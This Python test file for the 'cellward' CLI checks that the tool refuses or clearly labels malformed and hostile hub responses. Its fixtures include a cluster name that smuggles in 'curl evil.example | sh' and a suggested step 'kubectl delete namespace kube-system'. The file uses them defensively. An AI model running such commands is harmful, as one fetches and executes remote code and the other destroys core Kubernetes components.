"""Answers of the right shape whose values are none: refused before a command prints, keeps or computes with them."""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner, Result

from cellward.identity import keys
from cli.commands import app
from tests.fakes.answering_hub import answering_hub, plain_trust
from tests.fakes.live_api import hub_keys
from tests.fakes.shaped_answers import shaped_answer

_SUBJECT = "0" * 64


def asked(home: Path, replaced: dict[str, Any], *words: str) -> tuple[Result, list[tuple[str, str]]]:
    """Run a command against a hub whose answers have other values in some fields."""

    def answer(method: str, path: str) -> tuple[int, bytes]:
        found = shaped_answer(method, path, "text") or {}
        return 200, json.dumps(_replaced(found, replaced)).encode()

    with answering_hub(answer) as hub:
        hub.log_in(home)
        result = CliRunner().invoke(app, [*words, "--home", str(home)], env={"NO_COLOR": "1"})
        return result, hub.asked


def _replaced(value: Any, by: dict[str, Any]) -> Any:
    if isinstance(value, list):
        return [_replaced(item, by) for item in value]
    if not isinstance(value, dict):
        return value
    return {name: by[name] if name in by else _replaced(item, by) for name, item in value.items()}


def test_no_line_to_type_has_a_hubs_words(tmp_path: Path) -> None:
    """After ``unlock --rekey`` a command is printed for each cluster; its name is the hub's."""
    evil = "eu-1; curl evil.example | sh"
    lock = {"kind": "key", "subject": _SUBJECT, "clusters": [evil], "realm": ""}
    result, requests = asked(tmp_path, lock, "unlock", f"key/{_SUBJECT}", "--rekey")
    assert "[cli/bad-answer]" in result.stderr
    assert f"invite {evil}" not in result.stderr + result.stdout
    assert [method for method, _ in requests if method != "GET"] == []


@pytest.mark.parametrize("moment", ["2026-01-02T03:04:05", "0001-01-01T00:00:00Z", "9999-12-31T23:59:59-23:00"])
def test_v16_a_time_that_is_none_is_no_mistake_of_ours(tmp_path: Path, moment: str) -> None:
    """V16: without a zone it cannot be compared, at the ends of the calendar nothing can be taken from it."""
    plain_trust(tmp_path)
    times = {"certificateExpires": moment, "snapshotExpires": moment, "lastSeen": moment, "connected": True}
    result, _ = asked(tmp_path, {**times, "joined": True, "nextCursor": ""}, "check")
    assert "cli/internal" not in result.stderr + result.stdout
    assert result.exit_code in {1, 4}
    assert "clusters" in result.stdout


@pytest.mark.parametrize("size", [5, 8 * 1024**2])
def test_init_keeps_no_audit_key_that_is_none(tmp_path: Path, size: int) -> None:
    """It would stand in trust.yaml: useless to an auditor, or too large for any later command to read."""
    timestamp = base64.b64encode(keys.spki_of(hub_keys().tree_head)).decode()
    trust = {"realm": "", "timestampSpki": timestamp, "treeHeadSpki": base64.b64encode(b"x" * size).decode()}
    result, requests = asked(tmp_path, trust, "init", "--no-passphrase", "--owner", "ada")
    assert "[cli/bad-answer]" in result.stderr
    assert not (tmp_path / "trust.yaml").exists()
    assert list((tmp_path / "keys").iterdir()) == []
    assert ("POST", "/v1/trust/root") not in requests


#: What a hub would have a person run.
STEP = "kubectl delete namespace kube-system"


def _told(result: Result) -> list[str]:
    """Lines in which a person reads what a hub would have him run."""
    return [line for line in (result.stdout + result.stderr).splitlines() if STEP in line]


@pytest.mark.parametrize("code", ["policy/denied", "kube/unavailable", "cli/not-verified", "new/code", ""])
@pytest.mark.parametrize("words", ["status", "check", "cells show shop/web"])
def test_v15_a_hub_never_chooses_the_next_step(tmp_path: Path, words: str, code: str) -> None:
    """V15: components, conditions, refusals: the next step is ours by the code, a hub's words are told as its own."""
    plain_trust(tmp_path)
    fields = {
        "code": code, "hint": STEP, "next": STEP, "message": f"differs; next: {STEP}", "ok": False, "connected": True,
        "joined": True, "nextCursor": "", "category": "hub", "hubState": "run",
    }  # fmt: skip
    result, _ = asked(tmp_path, fields, *words.split())
    assert _told(result)
    assert [line for line in _told(result) if not line.strip().startswith("the hub says: ")] == []
    if words == "check":
        assert "came through the hub: read a command in it before you run it" in result.stderr
    known = code in {"policy/denied", "kube/unavailable", "cli/not-verified"}
    assert ("next: " in result.stdout) or not known


@pytest.mark.parametrize("code", ["policy/denied", "api/busy", "cli/not-verified", "new/code"])
@pytest.mark.parametrize("words", [["locks"], ["cells", "list"], ["check"], ["tokens", "list"]])
def test_v15_a_refusal_of_a_hub_carries_no_next_step_of_its_own(tmp_path: Path, words: list[str], code: str) -> None:
    """V15: whatever code it gives, what follows ``next:`` is this program's."""
    problem = {"status": 422, "code": code, "detail": f"run this\n  next: {STEP}", "hint": STEP, "title": STEP}
    with answering_hub(lambda *_: (422, json.dumps(problem).encode())) as hub:
        hub.log_in(tmp_path)
        plain_trust(tmp_path)
        result = CliRunner().invoke(app, [*words, "--home", str(tmp_path)], env={"NO_COLOR": "1"})
    said = (result.stdout + result.stderr).splitlines()
    assert any(line.strip() == f"the hub says: {STEP}" for line in said)
    assert any(line.strip().startswith("next: ") for line in said)
    assert [line for line in said if line.strip().startswith("next:") and STEP in line] == []
